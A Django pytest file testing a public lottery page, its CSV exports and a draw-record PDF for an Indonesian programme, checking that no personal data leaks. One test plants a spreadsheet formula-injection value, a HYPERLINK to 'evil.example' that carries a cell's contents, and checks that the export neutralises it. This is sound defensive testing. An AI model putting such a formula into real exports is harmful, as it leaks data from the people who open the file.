"""The public lottery page, its CSV downloads and the berita acara PDF (issue #16): open to anyone,
built from the published record only — pseudonymous ids, quota codes and priority levels, never a
name, a NIK or the points."""

import csv
import io
import re

import pytest
from django.utils.html import escape
from pypdf import PdfReader

from wirausaha.programs.actions import withdraw_enrolment
from wirausaha.programs.models import Enrolment, FrozenEntrant, LotteryChange, PriorityRule
from wirausaha.programs.tests.support import (
    BEKASI,
    DENPASAR,
    RULES,
    VALUE,
    close_and_screen,
    crowd,
    drawn,
    make_wave,
)
from wirausaha.programs.texts import ALGORITHM_TEXT

# Women get 7 points: a number that no level, rank or count in these small waves can be.
POINTS = 7


def a_wave(code="PHK-2025-1"):
    wave = make_wave(
        code, quotas={"32": 2, "51": 1}, rules=RULES, priorities=[(PriorityRule.Kind.WOMEN, POINTS, {})]
    )
    crowd(wave, BEKASI, 3)
    crowd(wave, BEKASI, 2, sex="F")
    crowd(wave, DENPASAR, 2, sex="F")
    return wave


@pytest.fixture
def lottery(db, national_admin):
    """A drawn wave with a withdrawal and the promotion that follows it in the change log."""
    wave = drawn(a_wave(), national_admin)
    leaving = wave.enrolments.get(quota__region_id="32", rank=1)
    withdraw_enrolment(leaving, by=national_admin, reason="found a job")
    return wave


def personal_values(wave) -> list[str]:
    values = []
    for enrolment in Enrolment.objects.filter(wave=wave).select_related("participant"):
        values += [enrolment.participant.nik, enrolment.participant.full_name]
    return values


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_page_shows_what_is_declared_before_the_wave_closes(client, db):
    wave = a_wave()

    page = client.get(f"/gelombang/{wave.code}/undian/")

    assert page.status_code == 200
    html = page.content.decode()
    assert wave.randomness_source in html
    assert "2025-07-02 12:00:00 UTC" in html and "2025-07-02 19:00:00 WIB" in html
    assert "sha256-stratified-v2" in html
    assert "peserta.csv" not in html  # nothing frozen to download yet
    # The description in the active language (Indonesian unless the visitor switched).
    # The whole description, step by step, as a numbered list.
    steps = re.split(r"(?:^|(?<=\. ))\d\. ", ALGORITHM_TEXT["id"])[1:]
    assert len(steps) == 7
    assert all(f"<li>{escape(step.strip())}" in html for step in steps)
    assert "Belum ada" not in html and "belum" in html


def test_the_page_shows_the_frozen_list_before_the_draw(client, db):
    wave = close_and_screen(a_wave())

    html = client.get(f"/gelombang/{wave.code}/undian/").content.decode()

    assert wave.entrants_digest in html
    assert "berita-acara.pdf" not in html
    assert client.get(f"/gelombang/{wave.code}/undian/berita-acara.pdf").status_code == 404


def test_the_page_shows_the_draw_to_anyone(client, lottery):
    page = client.get(f"/gelombang/{lottery.code}/undian/", HTTP_ACCEPT_LANGUAGE="en")

    html = page.content.decode()
    assert page.status_code == 200
    for value in (lottery.entrants_digest, lottery.draw.seed, lottery.draw.results_digest, VALUE):
        assert value in html
    assert f"python3 verify_draw.py lottery-{lottery.code}.json" in html
    assert "/static/programs/verify_draw.py" in html
    assert f"/api/v1/waves/{lottery.code}/lottery" in html
    from collections import Counter

    from wirausaha.programs.publication import results

    drawn = Counter((r["quota"], r["outcome"]) for r in results(lottery))
    entrants = Counter(FrozenEntrant.objects.filter(wave=lottery).values_list("quota_code", flat=True))
    assert page.context["quotas"] == [
        {
            "quota": quota,
            "seats": lottery.frozen_seats[quota],
            "entrants": entrants[quota],
            "selected": drawn[quota, "selected"],
            "waitlisted": drawn[quota, "waitlisted"],
        }
        for quota in ("32", "51")
    ]
    changes = list(page.context["page"])
    assert [c.event for c in changes] == ["withdrawn", "promoted"]
    for value in personal_values(lottery):
        assert value not in html


def test_the_page_of_a_draft_or_unknown_wave_is_not_found(client, db):
    from wirausaha.programs.models import Wave

    draft = make_wave("PHK-DRAFT", status=Wave.Status.DRAFT)
    assert client.get(f"/gelombang/{draft.code}/undian/").status_code == 404
    assert client.get("/gelombang/NOPE/undian/").status_code == 404


def test_the_entrants_csv_holds_the_frozen_list_and_nothing_personal(client, lottery):
    rows = rows_of(client.get(f"/gelombang/{lottery.code}/undian/peserta.csv"))

    assert rows[0] == ["pseudonym", "quota", "priority_level"]
    frozen = FrozenEntrant.objects.filter(wave=lottery).order_by("quota_code", "pseudonym")
    assert rows[1:] == [[f.pseudonym, f.quota_code, str(f.priority_level)] for f in frozen]
    assert {row[2] for row in rows[1:]} == {"1", "2"}
    assert str(POINTS) not in {cell for row in rows for cell in row}
    text = "\n".join(",".join(row) for row in rows)
    for value in personal_values(lottery):
        assert value not in text


def test_the_results_csv_holds_the_drawn_list(client, lottery):
    from wirausaha.programs.publication import results

    rows = rows_of(client.get(f"/gelombang/{lottery.code}/undian/hasil.csv"))

    fields = ["quota", "rank", "pseudonym", "priority_level", "outcome", "seat_quota"]
    assert rows[0] == fields
    expected = [["" if r[f] is None else str(r[f]) for f in fields] for r in results(lottery)]
    assert rows[1:] == expected and len(expected) == 7
    assert str(POINTS) not in {cell for row in rows for cell in row}
    text = "\n".join(",".join(row) for row in rows)
    for value in personal_values(lottery):
        assert value not in text


def test_the_changes_csv_holds_the_log_and_neutralises_a_formula(client, lottery):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    last = LotteryChange.objects.filter(wave=lottery).order_by("seq").last()
    LotteryChange.objects.filter(pk=last.pk).update(rule=hostile)

    rows = rows_of(client.get(f"/gelombang/{lottery.code}/undian/perubahan.csv"))

    assert rows[0] == ["seq", "at", "pseudonym", "event", "quota", "seat_freed", "rule", "chain"]
    changes = list(LotteryChange.objects.filter(wave=lottery).order_by("seq"))
    assert [(r[0], r[2], r[3], r[4], r[7]) for r in rows[1:]] == [
        (str(c.seq), c.pseudonym, c.event, c.quota, c.chain) for c in changes
    ]
    assert rows[1][5] == "True" and rows[2][5] == ""
    assert rows[2][6] == "'" + hostile


def test_the_csvs_wait_for_the_frozen_list(client, db):
    wave = a_wave()
    for name in ("peserta", "hasil", "perubahan"):
        assert client.get(f"/gelombang/{wave.code}/undian/{name}.csv").status_code == 404


def test_the_results_page_shows_levels_not_points(client, lottery):
    page = client.get(f"/gelombang/{lottery.code}/hasil/", HTTP_ACCEPT_LANGUAGE="en")

    rows = list(page.context["page"])
    assert rows and all("points" not in row for row in rows)
    levels = dict(FrozenEntrant.objects.filter(wave=lottery).values_list("pseudonym", "priority_level"))
    assert {row["pseudonym"]: row["priority_level"] for row in rows} == levels
    html = page.content.decode()
    assert f">{POINTS}<" not in html
    assert "/undian/" in html


def test_the_record_of_the_draw_is_a_pdf_with_the_seed_and_digests(client, lottery, national_admin):
    response = client.get(f"/gelombang/{lottery.code}/undian/berita-acara.pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(response.content))
    assert len(reader.pages) <= 2
    text = "".join(page.extract_text() for page in reader.pages)
    flat = "".join(text.split())
    for value in (lottery.draw.seed, lottery.entrants_digest, lottery.draw.results_digest, lottery.code):
        assert value in flat
    assert national_admin.username in text
    for value in personal_values(lottery):
        assert value not in text
